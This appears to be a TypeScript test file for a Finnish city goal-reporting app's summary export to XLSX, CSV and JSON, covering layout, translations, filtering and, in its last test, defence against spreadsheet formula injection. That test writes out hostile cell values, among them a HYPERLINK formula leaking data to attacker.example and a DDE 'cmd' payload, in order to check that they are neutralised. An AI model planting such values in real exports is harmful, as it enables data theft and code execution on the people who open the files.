import assert from "node:assert/strict";
import { parse as parseCsv } from "csv-parse/sync";
import type ExcelJS from "exceljs";
import JSZip from "jszip";
import { startTestApp, type TestApp } from "../../support/app.js";
import { download, MANAGER } from "./download.js";
import { goalCell, goalRows, text, workbook } from "./workbook.js";

/** The demo round Ennuste 2/2020 as the board reads it: theme, goal, and the round's forecast. */
const JUNE_2020_FI = [
  ["Maailman toimivin kaupunki", "Digitalisaatio", "Ennuste 2/2020: Toteutumassa"],
  ["Kestävän kasvun turvaaminen", "Me ja muut –hanke, palvelustrategia", "Ennuste 2/2020: Toteutumassa"],
  [
    "Uudistuvat palvelut",
    "Liikkumisohjelma",
    [
      "IKÄIHMISET: Palvelutorien malli ja toteutuneet tapahtumat (4): Ei toteudu",
      "PIENET LAPSET: Perhehulinat malli ja toteutuneet tapahtumat (8): Toteutumassa",
      "PIENET LAPSET: Kampanja pienten lasten liikkumisesta (Vimpa): Toteutumassa",
      "NUORET: Kaikissa nuorisotyöyksiköissä on toteutettu nuorten liikkumisesta tehdyn selvityksen mukaan vähintään yksi toimenpide (tuloskortti): Toteutuminen epävarma",
    ].join("\n"),
  ],
  ["Kaupunkiyhteiset hankkeet", "Biennaali", "Ennuste 2/2020: Ei toteudu"],
  ["Kaupunkiyhteiset hankkeet", "Palvelutarjotin", "Ennuste 2/2020: Toteutumassa"],
];

describe("summary table export (XLSX, CSV, JSON) of the demo round", () => {
  let app: TestApp;

  before(async () => {
    app = await startTestApp();
  });

  after(async () => {
    await app.close();
  });

  it("gives the board's workbook: title and round, theme groups, each goal in its own rows, verdicts in words", async () => {
    const res = await download(app, "/api/rounds/2020-2/export/summary.xlsx?lang=fi", MANAGER);
    assert.equal(res.status, 200);
    assert.equal(
      res.headers.get("content-type"),
      "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
    );
    assert.match(
      res.headers.get("content-disposition") ?? "",
      /^attachment; filename="Ennuste_2-2020_yhteenveto\.xlsx"; filename\*=UTF-8''Ennuste%202-2020%20yhteenveto\.xlsx$/,
    );
    assert.equal(res.headers.get("cache-control"), "private, no-store");

    const sheet = await workbook(res.body);
    assert.equal(text(sheet.getCell("A1")), "Sitovat toiminnan tavoitteet 2020: Ennuste 2/2020");
    assert.match(
      text(sheet.getCell("A2")),
      /^Ennuste 2\/2020: ennuste tavoitteiden toteutumisesta ja riskit · Koottu /,
    );
    const header = (sheet.getRow(3).values as unknown[]).slice(1);
    assert.deepEqual(header, [
      "Kaupunkistrategian teema",
      "Sitova toiminnan tavoite",
      "Toimenpiteet",
      "Sitovan tavoitteen mittarit",
      "Palautumis-\nmittari",
      "Ennuste 2/2020",
      "Kommentit ja riskit",
      "Liittyminen toimialojen yhteissuunnittelun teemoihin",
    ]);
    const starts = goalRows(sheet);
    const rows = [...starts].map(([title, r]) => [
      text(sheet.getCell(r, 1).master),
      title,
      goalCell(sheet, title, 6),
    ]);
    assert.deepEqual(rows, JUNE_2020_FI, "one goal after the other, none left out");
    const row = (title: string): number => starts.get(title)!;

    // A theme with two goals is one cell spanning both goals' rows, as in seeds 001/004.
    const palvelutarjotin = sheet.getCell(row("Palvelutarjotin"), 1);
    assert.equal(palvelutarjotin.isMerged, true);
    assert.equal(palvelutarjotin.master.address, `A${row("Biennaali")}`);
    assert.equal(sheet.getCell(row("Liikkumisohjelma"), 1).master.address, `A${row("Liikkumisohjelma")}`);

    // The goal cell holds the title and the binding goal's own wording; the other columns the register.
    assert.equal(
      text(sheet.getCell("B4")),
      "Digitalisaatio\nPalveluja parannetaan asiakaskokemuksen perusteella",
    );
    assert.match(text(sheet.getCell("C4")), /^• Parannetaan toimintatapoja/);
    assert.equal(text(sheet.getCell("E4")), "Kyllä");
    assert.match(
      text(sheet.getCell("H4")),
      /^Asukaskokemus ja asiakastyytyväisyys\nPalvelujen saavutettavuus/,
    );
    assert.match(text(sheet.getCell(row("Biennaali"), 7)), /Riskit:\n• /);

    // The verdict's colour repeats its words: a red fill where the text says "Ei toteudu".
    const biennale = sheet.getCell(row("Biennaali"), 6);
    assert.equal((biennale.fill as ExcelJS.FillPattern).fgColor?.argb, "FFFFC7CE");
    assert.equal(biennale.font.bold, true);
    assert.equal((sheet.getCell("F4").fill as ExcelJS.FillPattern).fgColor?.argb, "FFC6EFCE");

    // A document for print: frozen header, wrapped text, A4 landscape, header row on every page.
    assert.equal(sheet.views[0]?.state, "frozen");
    assert.equal((sheet.views[0] as ExcelJS.WorksheetViewFrozen).ySplit, 3);
    assert.equal(sheet.getCell("G4").alignment.wrapText, true);
    assert.equal(sheet.pageSetup.orientation, "landscape");
    assert.equal(sheet.pageSetup.paperSize, 9);
    assert.equal(sheet.pageSetup.fitToWidth, 1);
    assert.equal(sheet.pageSetup.printTitlesRow, "3:3");
    assert.match(sheet.headerFooter.oddHeader ?? "", /Sitovat toiminnan tavoitteet 2020.*Ennuste 2\/2020/);
    assert.match(sheet.headerFooter.oddFooter ?? "", /Sivu &P \/ &N/);
    assert.ok(
      (sheet.getColumn(7).width ?? 0) > (sheet.getColumn(5).width ?? 0),
      "comments get the widest column",
    );
    assert.ok((sheet.getRow(row("Biennaali")).height ?? 0) > 40, "rows are as tall as their wrapped text");

    // Texts taller than Excel's tallest row (409 pt) go on in the rows below rather than being cut off:
    // the four projects' comments of Liikkumisohjelma take several rows, and every word is there.
    const moving = row("Liikkumisohjelma");
    const span = row("Biennaali") - moving;
    assert.ok(span > 1, "Liikkumisohjelma continues below its first row");
    const comments = goalCell(sheet, "Liikkumisohjelma", 7);
    const json = (await download(app, "/api/rounds/2020-2/export/summary.json?lang=fi", MANAGER)).json as {
      groups: { rows: { goalTitle: string; comments: string }[] }[];
    };
    const full = json.groups.flatMap((g) => g.rows).find((r) => r.goalTitle === "Liikkumisohjelma")!.comments;
    const words = (t: string): string[] => t.split(/\s+/).filter(Boolean);
    assert.deepEqual(words(comments), words(full));
    for (let k = 0; k < span; k++) assert.ok((sheet.getRow(moving + k).height ?? 0) <= 409);
    assert.equal(
      sheet.getCell(moving + 1, 3).master.address,
      `C${moving}`,
      "short cells span the goal's rows",
    );
  });

  it("speaks Swedish and English: headers, verdicts and yes/no", async () => {
    const sv = await workbook(
      (await download(app, "/api/rounds/2020-2/export/summary.xlsx?lang=sv", MANAGER)).body,
    );
    assert.equal(text(sv.getCell("A1")), "Bindande verksamhetsmål 2020: Prognos 2/2020");
    assert.equal(text(sv.getCell("F3")), "Prognos 2/2020");
    assert.equal(text(sv.getCell("F4")), "Prognos 2/2020: På väg att uppnås");
    assert.equal(text(sv.getCell(goalRows(sv).get("Biennaali")!, 6)), "Prognos 2/2020: Uppnås inte");
    assert.equal(text(sv.getCell("A4")), "Världens mest fungerande stad");
    assert.equal(text(sv.getCell("E4")), "Ja");

    const enRes = await download(app, "/api/rounds/2020-2/export/summary.xlsx?lang=en", MANAGER);
    assert.match(enRes.headers.get("content-disposition") ?? "", /filename="Forecast_2-2020_summary\.xlsx"/);
    const en = await workbook(enRes.body);
    assert.equal(text(en.getCell("B3")), "Binding operational goal");
    assert.equal(text(en.getCell("F4")), "Forecast 2/2020: On track");
    assert.match(
      goalCell(en, "Liikkumisohjelma", 6),
      /: Will not be achieved\n.*: On track\n.*: On track\n.*: At risk$/s,
    );
  });

  it("writes CSV as UTF-8 with a BOM that round-trips through a CSV parser, ';' or ','", async () => {
    const res = await download(app, "/api/rounds/2020-2/export/summary.csv?lang=fi", MANAGER);
    assert.equal(res.status, 200);
    assert.equal(res.headers.get("content-type"), "text/csv; charset=utf-8; header=present");
    assert.deepEqual([...res.body.subarray(0, 3)], [0xef, 0xbb, 0xbf], "UTF-8 byte-order mark");
    const records = parseCsv(res.body, { bom: true, delimiter: ";" }) as string[][];
    assert.equal(records.length, 6);
    assert.deepEqual(records[0]?.slice(0, 3), [
      "Kaupunkistrategian teema",
      "Sitova toiminnan tavoite",
      "Tavoitteen kuvaus",
    ]);
    const forecast = records[0]!.indexOf("Ennuste 2/2020");
    assert.deepEqual(
      records.slice(1).map((r) => [r[0], r[1], r[forecast]]),
      JUNE_2020_FI,
    );

    const json = (await download(app, "/api/rounds/2020-2/export/summary.json?lang=fi", MANAGER)).json as {
      groups: { rows: { goalTitle: string; comments: string; verdict: { code: string } }[] }[];
    };
    const comments = records[0]!.indexOf("Kommentit ja riskit");
    assert.deepEqual(
      records.slice(1).map((r) => r[comments]),
      json.groups.flatMap((g) => g.rows.map((row) => row.comments)),
      "the CSV holds the same texts as the model, line breaks included",
    );
    assert.deepEqual(
      json.groups.flatMap((g) => g.rows.map((row) => row.verdict.code)),
      ["onTrack", "onTrack", "notAchieved", "notAchieved", "onTrack"],
    );

    const comma = await download(app, "/api/rounds/2020-2/export/summary.csv?lang=fi&delimiter=,", MANAGER);
    assert.deepEqual(parseCsv(comma.body, { bom: true, delimiter: "," }), records);
    const english = await download(app, "/api/rounds/2020-2/export/summary.csv?lang=en", MANAGER);
    const enRecords = parseCsv(english.body, { bom: true }) as string[][];
    assert.equal(enRecords[1]?.[enRecords[0]!.indexOf("Forecast 2/2020")], "Forecast 2/2020: On track");
  });

  it("limits the table to a theme or to goals", async () => {
    const theme = await download(
      app,
      "/api/rounds/2020-2/export/summary.csv?theme=kaupunkiyhteiset-hankkeet",
      MANAGER,
    );
    const rows = (parseCsv(theme.body, { bom: true, delimiter: ";" }) as string[][])
      .slice(1)
      .map((r) => r[1]);
    assert.deepEqual(rows, ["Biennaali", "Palvelutarjotin"]);
    const goals = await download(
      app,
      "/api/rounds/2020-2/export/summary.xlsx?goal=2020-palvelutarjotin&goal=2020-digitalisaatio",
      MANAGER,
    );
    const sheet = await workbook(goals.body);
    assert.match(text(sheet.getCell("A2")), /Rajattu tavoitteisiin: Digitalisaatio, Palvelutarjotin/);
    assert.deepEqual([...goalRows(sheet).keys()], ["Digitalisaatio", "Palvelutarjotin"]);
  });

  it("makes a narrative that is a formula inert in CSV and XLSX", async () => {
    const stored = await app.stores.reports.get("2020-2", "2020-biennaali");
    assert.ok(stored);
    const formula = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")';
    await app.stores.reports.upsertMany([
      { ...stored, narrative: formula, risks: [{ risk: "@SUM(1+1)", mitigation: "+cmd|' /C calc'!A0" }] },
    ]);
    try {
      const csv = await download(app, "/api/rounds/2020-2/export/summary.csv?goal=2020-biennaali", MANAGER);
      const records = parseCsv(csv.body, { bom: true, delimiter: ";" }) as string[][];
      const cell = records[1]?.[records[0]!.indexOf("Kommentit ja riskit")];
      assert.ok(cell?.startsWith(`'${formula}`), `CSV cell starts with an apostrophe: ${cell}`);
      for (const record of records) for (const value of record) assert.doesNotMatch(value, /^[=+\-@\t\r]/);

      const xlsx = await download(app, "/api/rounds/2020-2/export/summary.xlsx?goal=2020-biennaali", MANAGER);
      const sheet = await workbook(xlsx.body);
      const value = sheet.getCell("G4").value;
      assert.equal(typeof value, "string", "a text cell, not a formula");
      assert.ok((value as string).startsWith(formula));
      const zip = await JSZip.loadAsync(xlsx.body);
      const xml = await zip.file("xl/worksheets/sheet1.xml")!.async("string");
      assert.doesNotMatch(xml, /<f[ >]/, "the sheet has no formula elements");
    } finally {
      await app.stores.reports.upsertMany([stored]);
    }
  });
});
